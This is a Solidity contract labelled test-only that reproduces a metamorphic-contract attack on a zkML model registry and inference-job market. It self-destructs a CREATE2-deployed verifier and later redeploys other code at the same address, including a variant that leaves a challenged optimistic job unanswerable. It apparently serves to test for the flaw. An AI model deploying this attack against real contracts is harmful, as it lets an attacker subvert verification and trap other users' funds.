// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IModelRegistry} from "../interfaces/IModelRegistry.sol";
import {IERCZKMLRegistry} from "../interfaces/IERCZKMLRegistry.sol";
import {IInferenceJobs} from "../interfaces/IInferenceJobs.sol";
import {IVerifierAdapterFactory} from "../interfaces/IVerifierAdapterFactory.sol";
import {MetamorphicTrampoline} from "./MetamorphicTrampoline.sol";

/// @title MetamorphicDeployer (test-only)
/// @notice Reproduces the "same address, other code" attack on a version's verifier under EIP-6780: code can leave
/// an address only by self-destructing in its creation transaction, so `attack` deploys a verifier whose every call
/// self-destructs, creates its factory adapter, registers a model on it and opens a job, and destroys the verifier,
/// all in one transaction. `deploy` later puts other code at the same address: `CREATE2` of a fixed trampoline that
/// copies the code of whatever `implementation` holds.
contract MetamorphicDeployer {
    /// @notice Thrown when the self-destructing verifier could not be called.
    error DestroyFailed(address verifier);

    /// @notice The contract whose code the next trampoline copies.
    address public implementation;

    /// @notice Deploys a copy of `impl`'s code at the trampoline's CREATE2 address for `salt`.
    /// @param impl The contract whose code to copy.
    /// @param salt The CREATE2 salt (the same salt gives the same address).
    /// @return deployed The address.
    function deploy(address impl, bytes32 salt) public returns (address deployed) {
        implementation = impl;
        deployed = address(new MetamorphicTrampoline{salt: salt}());
    }

    /// @notice In one transaction: deploy `destroyingImpl`'s code (every call self-destructs), create its adapter,
    /// register a model on it, open a job on it and claim it (`msg.value` = fee + claim bond), then destroy it.
    /// @return verifier The verifier's address.
    /// @return modelId The model registered.
    /// @return jobId The job opened.
    function attack(
        address destroyingImpl,
        bytes32 salt,
        IVerifierAdapterFactory factory,
        IModelRegistry registry,
        IInferenceJobs jobs,
        IERCZKMLRegistry.ModelCommitment calldata commitment,
        uint256 inputCommitment,
        uint64 deadline
    ) external payable returns (address verifier, uint256 modelId, uint256 jobId) {
        verifier = deploy(destroyingImpl, salt);
        address adapter = factory.createAdapter(commitment.proofSystemId, verifier, 4);
        modelId = registry.registerModelWithVerifier(commitment, adapter, 4);
        // msg.value beyond the market's claim bond is the fee; the bond is staked and the job claimed while the
        // verifier's code is still the registered code (the only moment a claim on it is possible)
        uint256 bond = jobs.claimBond();
        jobId = jobs.openJob{value: msg.value - bond}(modelId, 1, inputCommitment, "", deadline, false);
        jobs.deposit{value: bond}();
        jobs.claim(jobId);
        _destroy(verifier);
    }

    /// @notice `attack` on an optimistic job: in one transaction, with the verifier still in place, open the job
    /// (`msg.value` = fee + claim bond + challenge bond), make it optimistic, claim it, post `output` and challenge the
    /// post by bond (this contract is both poster and challenger), then destroy the verifier: nobody can answer.
    /// @return verifier The verifier's address.
    /// @return modelId The model registered.
    /// @return jobId The job opened.
    function attackOptimistic(
        address destroyingImpl,
        bytes32 salt,
        IVerifierAdapterFactory factory,
        IModelRegistry registry,
        IInferenceJobs jobs,
        IERCZKMLRegistry.ModelCommitment calldata commitment,
        uint256 inputCommitment,
        uint64 deadline,
        uint256 output
    ) external payable returns (address verifier, uint256 modelId, uint256 jobId) {
        verifier = deploy(destroyingImpl, salt);
        address adapter = factory.createAdapter(commitment.proofSystemId, verifier, 4);
        modelId = registry.registerModelWithVerifier(commitment, adapter, 4);
        (uint256 challengeBond, , ) = jobs.optimisticParameters();
        uint256 bonds = jobs.claimBond() + challengeBond;
        jobId = jobs.openJob{value: msg.value - bonds}(modelId, 1, inputCommitment, "", deadline, false);
        jobs.setOptimistic(jobId);
        jobs.deposit{value: bonds}();
        jobs.claim(jobId);
        jobs.postResult(jobId, output);
        jobs.challengeResult(jobId);
        _destroy(verifier);
    }

    /// @dev Any call runs the verifier's only code, CALLER SELFDESTRUCT: a plain call is the point here.
    function _destroy(address verifier) private {
        // solhint-disable-next-line avoid-low-level-calls
        (bool ok, ) = verifier.call("");
        if (!ok) revert DestroyFailed(verifier);
    }
}
